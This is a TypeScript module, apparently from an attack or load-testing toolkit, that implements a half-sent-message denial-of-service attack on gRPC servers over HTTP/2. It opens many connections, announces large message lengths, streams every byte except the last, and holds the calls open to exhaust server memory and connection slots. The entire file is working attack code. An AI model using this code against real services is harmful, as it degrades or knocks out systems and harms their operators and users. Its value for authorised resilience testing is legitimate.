import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from './attack.js';
import { type Http2Address, openGrpcCall, openHttp2 } from './raw-http2.js';

const CALLS_PER_CONNECTION = 30;
const PIECE_BYTES = 16 * 1024;

export interface HalfSentCalls {
  readonly address: Http2Address;
  readonly path: string;
  readonly calls: number;
  /** Announced length of each message; all but the last byte is sent. */
  readonly messageBytes: number;
}

/** Sends messages but for their last byte, and waits. */
export async function sendHalf(
  { address, path, calls, messageBytes }: HalfSentCalls,
  durationMs: number,
  signal: AbortSignal,
): ReturnType<Attack['run']> {
  let sentBytes = 0;
  let refused = 0;
  const piece = Buffer.alloc(PIECE_BYTES, 'a');
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(messageBytes, 1);
  const sessions = Array.from({ length: Math.ceil(calls / CALLS_PER_CONNECTION) }, () => openHttp2(address));
  for (let call = 0; call < calls; call++) {
    const session = sessions[call % sessions.length];
    if (session === undefined || session.destroyed) continue;
    const stream = openGrpcCall(session, path);
    stream.on('response', () => refused++);
    stream.resume();
    stream.write(prefix);
    let left = messageBytes - 1;
    const send = (): void => {
      if (left <= 0 || stream.destroyed) return;
      const next = piece.subarray(0, Math.min(left, PIECE_BYTES));
      left -= next.length;
      stream.write(next, (error) => {
        if (error) return;
        sentBytes += next.length;
        send();
      });
    };
    send();
  }
  await delay(durationMs, undefined, { signal }).catch(() => undefined);
  for (const session of sessions) session.destroy();
  return `${calls} calls on ${sessions.length} connections: ${Math.round(sentBytes / 2 ** 20)} MiB sent, ${refused} answered`;
}
